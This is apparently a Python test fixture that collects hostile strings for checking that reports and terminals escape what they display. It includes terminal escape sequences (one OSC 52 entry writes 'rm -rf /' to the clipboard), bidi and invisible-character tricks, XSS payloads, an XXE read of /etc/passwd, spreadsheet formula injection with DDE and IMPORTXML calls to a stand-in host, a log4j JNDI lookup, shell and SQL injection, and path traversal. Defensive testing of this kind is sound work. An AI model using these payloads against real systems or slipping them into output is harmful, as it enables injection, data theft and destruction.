"""One table of strings that attack whoever shows them: a name, the string, and what it is after."""

from __future__ import annotations

import unicodedata
from typing import NamedTuple


class Hostile(NamedTuple):
    name: str
    text: str
    attacks: str


ESC, CSI8, OSC8, DCS8, ST8 = "\x1b", "\x9b", "\x9d", "\x90", "\x9c"

TERMINAL = [
    ("sgr", f"{ESC}[31;1mred{ESC}[0m", "colours of its own"),
    ("conceal", f"{ESC}[8mhidden{ESC}[28m", "text that cannot be seen"),
    ("clear_screen", f"{ESC}[2J{ESC}[3J{ESC}[H", "wipes the screen and what was above it"),
    ("cursor_moves", f"{ESC}[5A{ESC}[2K{ESC}[1Gsafe", "writes over earlier lines"),
    ("alternate_screen", f"{ESC}[?1049h", "another screen"),
    ("csi_8_bit", f"{CSI8}2J{CSI8}31m", "the same with one-byte openers"),
    ("csi_in_csi", f"{ESC}[3{ESC}[0m1m{ESC}{ESC}[0m[2J", "is whole once its middle is taken out"),
    ("csi_unfinished", f"text {ESC}[38;5;", "swallows what follows"),
    ("set_title", f"{ESC}]0;owned\x07", "the window's title"),
    ("set_title_8_bit", f"{OSC8}2;owned{ST8}", "the same with one-byte openers"),
    ("report_title", f"{ESC}[21t", "puts the title on the command line"),
    ("device_status", f"{ESC}[6n{ESC}[c{ESC}Z", "makes the terminal type an answer"),
    ("hyperlink", f"{ESC}]8;;https://a.example{ESC}\\bank{ESC}]8;;{ESC}\\", "OSC 8: a hidden link"),
    ("clipboard", f"{ESC}]52;c;cm0gLXJmIC8K\x07", "OSC 52: writes the clipboard"),
    ("osc_unfinished", f"{ESC}]0;never ends", "swallows what follows"),
    ("dcs", f"{ESC}P1$tx{ESC}\\", "device control string"),
    ("dcs_8_bit", f"{DCS8}q#0;2;0;0;0{ST8}", "a picture (sixel)"),
    ("apc_pm_sos", f"{ESC}_apc{ESC}\\{ESC}^pm{ESC}\\{ESC}Xsos{ESC}\\", "strings for the terminal"),
    ("reset", f"{ESC}c{ESC}#8", "resets the terminal, fills the screen"),
    ("charset", f"{ESC}(0\x0eqqq\x0f", "line-drawing letters"),
    ("carriage_return", "malicious\rharmless ", "overwrites the line"),
    ("backspaces", "evil\b\b\b\bgood", "overwrites the word"),
    ("bell", "ding\a\a\a", "rings"),
    ("nul", "nul\x00byte\x00", "ends the string for some readers"),
    ("vertical", "one\vtwo\ftwo\x85three\x1c\x1d\x1efour", "breaks lines"),
    ("delete", "x\x7f\x7f", "deletes"),
    ("rich_markup", "[bold red]x[/] [/bold] [link=https://a.example]y[/link] [", "rich's markup"),
    ("rich_markup_open", "[blink on red]", "rich's markup, never closed"),
    ("rich_markup_event", "[@click=app.quit]z[/]", "rich's markup: an action"),
    ("emoji_code", ":smile: :warning: :+1: :100:", "becomes a picture"),
]

UNICODE = [
    ("bidi_override", "annexe\u202egnp.exe\u202c", "another order than it has"),
    ("bidi_isolates", "\u2066a\u2069 \u2067b\u2069 \u2068c", "the same, as in Trojan Source"),
    ("bidi_marks", "a\u200eb\u200fc\u061cd", "direction marks"),
    ("zero_width", "pass\u200bwo\u2060rd\ufeff\u00ad\u180e\u2063", "hides in a search"),
    ("joiners", "\u200d\u200cx\u200d", "joiners with nothing to join"),
    ("tags", "x\U000e0001\U000e0068\U000e0069\U000e007f", "a message in tag characters"),
    ("variation_selectors", "x\U000e0100\U000e01ef", "a message in variation selectors"),
    ("fillers", "\u3164\uffa0\u034f", "letters that cannot be seen"),
    ("annotation", "\ufff9a\ufffab\ufffb", "interlinear annotation"),
    ("line_separators", "one\u2028two\u2029three", "line breaks that JavaScript knew"),
    ("lone_surrogates", "\ud800 \udfff\ud83d", "cannot be encoded"),
    ("noncharacters", "\ufffe\uffff\ufdd0\U0010ffff", "no characters; forbidden in XML"),
    ("combining_storm", "Z" + "\u0301\u0336\u20dd" * 400 + "algo", "draws over other lines"),
    ("combining_first", "\u0338<b>\u0301", "combines with what stands before it"),
    ("private_use", "\ue000\uf8ff\U0010fffd", "means nothing"),
    ("astral", "\U0001f3f4\U0001f468\u200d\U0001f469\U00020000", "two units in UTF-16"),
]

HTML = [
    ("script", "<script>alert(1)</script>", "runs"),
    ("script_case", "<ScRiPt\n/x>alert(1)</sCrIpT >", "runs"),
    ("img_onerror", "<img src=x onerror=alert(1)>", "runs"),
    ("svg_onload", "<svg/onload=alert(1)><animate onbegin=alert(1)>", "runs"),
    ("math_href", '<math><a xlink:href="javascript:alert(1)">x</a></math>', "runs"),
    ("iframe", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "runs"),
    ("style", "<style>*{display:none}</style>", "hides the report"),
    ("link_meta_base", "<link rel=stylesheet href=//a.example><base href=//a.example>", "loads"),
    ("meta_refresh", '<meta http-equiv=refresh content="0;url=//a.example">', "goes elsewhere"),
    ("close_title", "</title><script>alert(1)</script>", "leaves the title"),
    ("close_style", "</style><script>alert(1)</script>", "leaves the style sheet"),
    ("close_all", "</span></p></main></body></html><h1>x", "leaves every element"),
    ("textarea", "<textarea><plaintext><xmp><noscript>", "swallows what follows"),
    ("comment", "<!-- --!><!--><img src=x>", "comments that do not end where they seem to"),
    ("conditional_comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "runs"),
    ("cdata", "]]><![CDATA[<script>alert(1)</script>]]>", "leaves a section"),
    (
        "processing",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
        "XML entities",
    ),
    ("billion_laughs", "<!ENTITY lol2 '&lol;&lol;&lol;'>&lol2;", "XML entities that grow"),
    ("attribute_double", '" onmouseover="alert(1)" x="', "leaves a quoted attribute"),
    ("attribute_single", "' onmouseover='alert(1)' x='", "leaves a quoted attribute"),
    ("attribute_backtick", "` onmouseover=`alert(1)`", "leaves an attribute in old browsers"),
    ("attribute_bare", " onfocus=alert(1) autofocus tabindex=1 ", "adds attributes"),
    ("entities", "&lt;script&gt;&#60;b&#62;&#x3c;i&#x3e;&amp;lt;&notit;", "is decoded twice"),
    ("javascript", "javascript:alert(1)", "an address that runs"),
    ("javascript_case", " \x01JaVa\tScRiPt\n:alert(1)", "the same, in disguise"),
    ("javascript_entity", "javascript&colon;alert(1)//&#106;avascript:alert(1)", "the same"),
    ("javascript_slashes", "javascript://a.example/%0aalert(1)", "the same, with a host"),
    ("data_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "runs"),
    ("vbscript", "vbscript:msgbox(1)", "runs in old browsers"),
    ("file_url", "file:///etc/passwd", "reads a file"),
    ("protocol_relative", "//a.example/x", "another host"),
    ("userinfo", "https://bank.example@a.example/", "another host than it seems"),
    ("web_address", "https://a.example/x?y=1&copy=2&lt;z", "becomes a link"),
    ("css", "};*{background:url(//a.example)}expression(alert(1))", "a style of its own"),
]

MARKDOWN = [
    ("md_link", "[click](https://a.example)", "a link"),
    ("md_link_title", "[x](javascript:alert(1) 'y')", "a link that runs"),
    ("md_image", "![x](https://a.example/pixel.png)", "loads a picture, tells who reads"),
    ("md_reference", "[x]: https://a.example", "defines a link"),
    ("md_reference_use", "[x][] [x] ![x]", "uses a link"),
    ("md_autolink", "<https://a.example> <me@a.example>", "a link"),
    ("md_bare_www", "www.a.example/x", "a link in GitHub's dialect"),
    ("md_bare_mail", "me@a.example mailto:me@a.example xmpp:me@a.example/x", "a link there"),
    ("md_bare_ftp", "ftp://a.example/x Http://A.example HTTPS://a.example", "a link there"),
    ("md_bare_domain", "evil.com münchen.de a.co.uk/x", "a link for some readers"),
    ("md_mention", "@octocat @org/team #1 octo/repo#2", "tells people, names issues"),
    ("md_heading", "# heading #", "a heading"),
    ("md_setext", "one\n===\ntwo\n---", "a heading"),
    ("md_rule", "---", "a rule"),
    ("md_rule_stars", "* * *", "a rule"),
    ("md_equals", "===", "underlines a heading"),
    ("md_list", "- one\n- two", "a list"),
    ("md_list_plus", "+ one", "a list"),
    ("md_list_number", "1. one", "a list"),
    ("md_list_bracket", "7) seven", "a list"),
    ("md_task", "[x] done", "a task"),
    ("md_quote", "> [!WARNING]\n> text", "a quotation, an alert"),
    ("md_fence", "```js\nalert(1)\n```", "code"),
    ("md_fence_tilde", "~~~mermaid\ngraph TD\n~~~", "a diagram"),
    ("md_code", "`code` ``co`de``", "code"),
    ("md_indented", "\t    indented", "code"),
    ("md_table", "| a | b |\n| --- | --- |\n| c | d |", "a table"),
    ("md_pipe", "a | b || c \\| d", "more cells"),
    ("md_html", "<details><summary>x</summary></details><br>", "HTML"),
    ("md_html_block", "<div>\n\n*x*\n\n</div>", "HTML"),
    ("md_emphasis", "*a* **b** _c_ __d__ ***e***", "emphasis"),
    ("md_strike", "~~gone~~ ~gone~", "struck out"),
    ("md_highlight", "==mark== ++ins++ ^sup^ ~sub~", "emphasis for some readers"),
    ("md_footnote", "text[^1] [^1]: note", "a footnote"),
    ("md_math", "$x$ $$\\frac{a}{b}$$ \\(y\\) \\[z\\]", "a formula"),
    ("md_entity", "&copy; &#42;a&#42; &amp;nbsp;", "another character"),
    ("md_backslash", "\\*a\\* \\\\ \\| end\\", "escapes an escape, breaks a line"),
    ("md_hard_break", "one  \ntwo  ", "breaks a line"),
    ("md_attributes", "{.class onclick=alert(1)} {: .x} ::: note", "attributes for some readers"),
    ("md_front_matter", "---\ntitle: x\n---", "settings of the document"),
    ("md_definition", ": definition", "a definition list for some readers"),
]

TABLES = [
    ("csv_hyperlink", '=HYPERLINK("https://a.example?"&A1,"click")', "sends a cell elsewhere"),
    ("csv_dde", "=cmd|' /C calc'!A0", "starts a program"),
    ("csv_plus", "+cmd|' /C calc'!A0", "the same"),
    ("csv_minus", "-2+3+cmd|' /C calc'!A0", "the same"),
    ("csv_at", "@SUM(1+1)*cmd|' /C calc'!A0", "the same"),
    ("csv_tab", "\t=1+1", "a formula after a tab"),
    ("csv_return", "\r=1+1", "a formula after a carriage return"),
    ("csv_newline", "\n=1+1\n=2+2", "a formula in the next row"),
    ("csv_blanks", "   \u00a0\u3000=1+1", "a formula after blanks"),
    ("csv_invisible", "\u200b\ufeff=1+1", "a formula after what cannot be seen"),
    ("csv_joiner", "\u200d\u200c=1+1", "a formula after joiners"),
    ("csv_control", "\x00\x1b[0m=1+1", "a formula after what is taken out"),
    ("csv_full_width", "＝1+1", "a formula in wide letters"),
    ("csv_full_width_others", "＋1 ＠SUM －1", "the same"),
    ("csv_small", "﹦1+1", "a formula in small letters"),
    ("csv_apostrophe", "'=1+1", "looks guarded already"),
    ("csv_quotes", 'x","=1+1","', "leaves its cell"),
    ("csv_quotes_newline", 'x"\r\n"=1+1', "leaves its row"),
    ("csv_semicolon", "x;=1+1; @SUM(A1);-1", "a cell where the list separator is a semicolon"),
    ("csv_import", '=IMPORTXML(CONCAT("https://a.example?",A1),"//a")', "reads out the table"),
]

READERS = [
    ("json_break", '"}],"value":1,"x":[{"', "leaves its string"),
    ("json_backslash", '\\"\\u0000\\', "escapes the end of its string"),
    ("json_script", "</script><!--<script>", "leaves a script that holds JSON"),
    ("template_curly", "{{7*7}} {{constructor.constructor('x')()}} {%x%} {#x#}", "a template"),
    ("template_dollar", "${7*7} #{7*7} <%= 7*7 %> ${{ secrets.x }}", "a template"),
    ("percent", "%s%s%n%x %(name)s %d", "a format"),
    ("braces", "{0} {} {0.__class__} {!r}", "a format"),
    ("log4j", "${jndi:ldap://a.example/x}", "loads code"),
    ("path", "../../../../etc/passwd ..\\..\\x C:\\con", "another file"),
    ("shell", "$(touch x) `touch x` ; rm -rf / && x | y > z", "a command"),
    ("sql", "'; DROP TABLE reports; --", "a query"),
    ("ssi", '<!--#exec cmd="x"-->', "a server's command"),
    ("long_word", "A" * 1500, "wider than any line"),
    ("long_openers", "\x9d\x9b\x1b]\x1b[" * 300, "read again and again"),
    ("long_marks", "[(*_`<&" * 150, "nested without end"),
    ("blank", " \t\r\n\u200b", "nothing at all"),
]  # fmt: skip

HOSTILE = [Hostile(*row) for row in (*TERMINAL, *UNICODE, *HTML, *MARKDOWN, *TABLES, *READERS)]


def acting(text, *, allowed="\n"):
    """The characters that move a cursor, turn a text round, hide, or are no characters."""
    kept = set(allowed) | {"\u200c", "\u200d"}
    categories = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    unseen = "\u034f\u3164\uffa0"
    return {
        character
        for character in set(text) - kept
        if unicodedata.category(character) in categories
        or character in unseen
        or ord(character) & 0xFFFE == 0xFFFE
        or 0xFDD0 <= ord(character) < 0xFDF0
        or 0xE0000 <= ord(character) < 0xE1000
    }
